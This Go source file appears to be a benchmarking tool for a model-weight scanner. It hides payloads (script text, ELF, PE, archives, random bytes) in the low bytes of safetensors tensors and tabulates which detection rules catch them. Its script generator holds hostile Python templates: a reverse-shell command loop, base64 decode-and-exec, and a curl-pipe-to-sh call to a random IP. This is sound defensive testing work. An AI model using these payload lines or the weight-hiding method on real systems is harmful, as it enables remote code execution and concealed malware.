// Command evilgen measures what `aigis scan --weights` finds of
// EvilModel-style payloads (docs/formats.md, weight forensics). It reads
// clean safetensors models (internal/gen/trainedweights writes them) and
//
//   - with -fp, scans each as it is and prints every finding: the false
//     positives on clean twins;
//
//   - with -matrix, hides each payload type (script text, ELF, PE, zip,
//     gzip, an executable without its header, random bytes) of each size in
//     the k low bytes of consecutive elements of the largest tensor of
//     several clean models of the right dtype (float32: k = 1, 2, 3, bytes
//     little- or big-endian within the element; float16 and bfloat16: the
//     low byte), at a random element, scans the model and prints which
//     rule found it;
//
//   - with -out DIR, writes a few such models for end-to-end scans.
//
//     go run ./internal/gen/evilgen -clean DIR -fp
//     go run ./internal/gen/evilgen -clean DIR -matrix [-per 6]
//
// The scan runs in process on the modified bytes (weights.Scan, the same
// code `aigis scan --weights` runs on a safetensors file).
package main

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"flag"
	"fmt"
	"log"
	"math/rand/v2"
	"os"
	"path/filepath"
	"sort"
	"strings"

	"github.com/aigis-dev/aigis/analyzer"
	"github.com/aigis-dev/aigis/analyzer/safetensors"
	"github.com/aigis-dev/aigis/internal/testutil"
	"github.com/aigis-dev/aigis/internal/weights"
)

type model struct {
	path  string
	data  []byte
	ts    []analyzer.Tensor
	class string // f32, f32-bf16origin, f16, bf16
	big   int    // index of the largest float tensor
}

func load(path string) (*model, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	h, err := safetensors.ParseHeader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		return nil, fmt.Errorf("%s: %w", path, err)
	}
	m := &model{path: path, data: data, big: -1}
	for _, t := range h.Tensors {
		at := analyzer.Tensor{Name: t.Name, DType: analyzer.ParseDType(t.DType), Shape: t.Shape, Offset: h.DataStart + t.Begin, Size: t.End - t.Begin}
		m.ts = append(m.ts, at)
		if at.DType != analyzer.OtherDType && (m.big < 0 || at.Size > m.ts[m.big].Size) {
			m.big = len(m.ts) - 1
		}
	}
	if m.big < 0 {
		return nil, fmt.Errorf("%s: no float tensor", path)
	}
	m.class = strings.ToLower(m.ts[m.big].DType.String())
	if m.class == "f32" && strings.Contains(filepath.Base(path), "bf16-f32") {
		m.class = "f32-bf16origin"
	}
	return m, nil
}

func scan(data []byte, ts []analyzer.Tensor) []string {
	out := analyzer.NewResult(nil)
	if err := weights.Scan(context.Background(), nil, bytes.NewReader(data), ts, out); err != nil {
		log.Fatal(err)
	}
	var fs []string
	for _, f := range out.Findings() {
		fs = append(fs, f.Rule+": "+f.Message)
	}
	return fs
}

// Payloads.

func script(n int, r *rand.Rand) []byte {
	lines := []string{
		"import os, socket, subprocess, base64, time\n",
		"HOST = '%d.%d.%d.%d'\nPORT = %d\n",
		"def beacon(s):\n    while True:\n        cmd = s.recv(%d).decode()\n        if not cmd: break\n        out = subprocess.run(cmd, shell=True, capture_output=True)\n        s.send(out.stdout + out.stderr)\n",
		"for attempt in range(%d):\n    try:\n        s = socket.create_connection((HOST, PORT))\n        beacon(s)\n    except OSError:\n        time.sleep(%d)\n",
		"payload = base64.b64decode('%s')\nexec(compile(payload, '<string>', 'exec'))\n",
		"os.system('curl -s http://%d.%d.%d.%d/x.sh | sh')\n",
	}
	var b bytes.Buffer
	for b.Len() < n {
		l := lines[r.IntN(len(lines))]
		args := []any{}
		for i := 0; i < strings.Count(l, "%d"); i++ {
			args = append(args, r.IntN(1000))
		}
		if strings.Contains(l, "%s") {
			enc := make([]byte, 40+r.IntN(40))
			for i := range enc {
				enc[i] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"[r.IntN(64)]
			}
			args = append(args, string(enc))
		}
		fmt.Fprintf(&b, l, args...)
	}
	return b.Bytes()[:n]
}

func elf(path string, n, from int) []byte {
	b, err := os.ReadFile(path)
	if err != nil {
		log.Fatal(err)
	}
	for len(b) < n+from {
		b = append(b, b...)
	}
	return b[from : from+n]
}

func pe(path string, n int) []byte {
	if b, err := os.ReadFile(path); err == nil && len(b) > 0 {
		for len(b) < n {
			b = append(b, b[512:]...)
		}
		return b[:n]
	}
	return testutil.PEPayload(n)
}

func zipped(n int, body []byte) []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for i := 0; buf.Len() < n; i++ {
		w, _ := zw.Create(fmt.Sprintf("payload/part%03d.bin", i))
		w.Write(body)
		zw.Flush()
	}
	zw.Close()
	return buf.Bytes()[:n]
}

func gzipped(n int, body []byte) []byte {
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	for buf.Len() < n {
		zw.Write(body)
		zw.Flush()
	}
	zw.Close()
	return buf.Bytes()[:n]
}

func random(n int, r *rand.Rand) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(r.Uint32())
	}
	return b
}

type lay struct {
	name string
	k    int
	be   bool
}

func main() {
	clean := flag.String("clean", "/tmp/aigis-clean-weights", "directory of clean safetensors models (scripts/bench-evilmodel.sh)")
	fp := flag.Bool("fp", false, "scan the clean models and list findings")
	matrix := flag.Bool("matrix", false, "hide payloads and tabulate detection")
	per := flag.Int("per", 6, "models per matrix cell")
	outDir := flag.String("out", "", "write a few payload models here")
	elfPath := flag.String("elf", "/usr/bin/bash", "an ELF executable (payload)")
	pePath := flag.String("pe", "", "a PE executable (payload; synthesised when empty)")
	flag.Parse()
	paths, _ := filepath.Glob(filepath.Join(*clean, "*.safetensors"))
	sort.Strings(paths)
	var models []*model
	for _, p := range paths {
		m, err := load(p)
		if err != nil {
			log.Fatal(err)
		}
		models = append(models, m)
	}
	if *fp {
		flagged := 0
		for _, m := range models {
			fs := scan(m.data, m.ts)
			if len(fs) > 0 {
				flagged++
			}
			fmt.Printf("%s (%s, %.0f MB): %d findings\n", filepath.Base(m.path), m.class, float64(len(m.data))/1e6, len(fs))
			for _, f := range fs {
				fmt.Println("    ", f)
			}
		}
		fmt.Printf("clean models flagged: %d of %d\n", flagged, len(models))
	}
	if !*matrix && *outDir == "" {
		return
	}
	r := rand.New(rand.NewPCG(42, 42))
	exe := elf(*elfPath, 1<<20, 0)
	payloads := []struct {
		name string
		make func(n int) []byte
	}{
		{"script (Python text)", func(n int) []byte { return script(n, r) }},
		{"ELF executable", func(n int) []byte { return elf(*elfPath, n, 0) }},
		{"PE executable", func(n int) []byte { return pe(*pePath, n) }},
		{"zip archive", func(n int) []byte { return zipped(n, exe[:256<<10]) }},
		{"gzip stream", func(n int) []byte { return gzipped(n, exe) }},
		{"ELF body, no header", func(n int) []byte { return elf(*elfPath, n, 64<<10) }},
		{"random (encrypted)", func(n int) []byte { return random(n, r) }},
	}
	sizes := []int{4 << 10, 64 << 10, 1 << 20}
	f32Lays := []lay{{"k=1", 1, false}, {"k=2 LE", 2, false}, {"k=2 BE", 2, true}, {"k=3 LE", 3, false}, {"k=3 BE", 3, true}}
	byClass := map[string][]*model{}
	for _, m := range models {
		byClass[m.class] = append(byClass[m.class], m)
	}
	classes := []string{"f32", "f32-bf16origin", "f16", "bf16"}
	if *outDir != "" {
		os.MkdirAll(*outDir, 0o755)
	}
	if *matrix {
		fmt.Println("| payload | size | dtype | layout | found (signature / statistics / either) |")
		fmt.Println("|---|---|---|---|---|")
	}
	for _, p := range payloads {
		for _, size := range sizes {
			body := p.make(size)
			for _, c := range classes {
				lays := f32Lays
				if c == "f16" || c == "bf16" {
					lays = []lay{{"k=1", 1, false}}
				}
				for _, l := range lays {
					ms := byClass[c]
					if len(ms) > *per {
						ms = ms[:*per]
					}
					var sigs, stats, any int
					for mi, m := range ms {
						t := m.ts[m.big]
						es := t.DType.Size()
						n := int(t.Size) / es
						need := (size + l.k - 1) / l.k
						if need > n {
							continue
						}
						start := r.IntN(n - need + 1)
						data := append([]byte(nil), m.data...)
						testutil.HideBytes(data[t.Offset:t.Offset+t.Size], es, body, l.k, l.be, start)
						fs := scan(data, m.ts)
						s, st := false, false
						for _, f := range fs {
							s = s || strings.HasPrefix(f, "weights-lsb-file")
							st = st || strings.HasPrefix(f, "weights-lsb-payload")
						}
						if s {
							sigs++
						}
						if st {
							stats++
						}
						if s || st {
							any++
						}
						if *outDir != "" && mi == 0 {
							name := fmt.Sprintf("%s-%dk-%s-%s.safetensors", strings.Fields(p.name)[0], size>>10, c, strings.ReplaceAll(l.name, " ", ""))
							os.WriteFile(filepath.Join(*outDir, strings.NewReplacer("=", "", "(", "", ")", "").Replace(name)), data, 0o644)
						}
					}
					if *matrix {
						fmt.Printf("| %s | %s | %s | %s | %d / %d / %d of %d |\n", p.name, human(size), c, l.name, sigs, stats, any, len(ms))
					}
				}
			}
		}
	}
}

func human(n int) string {
	if n >= 1<<20 {
		return fmt.Sprintf("%d MiB", n>>20)
	}
	return fmt.Sprintf("%d KiB", n>>10)
}
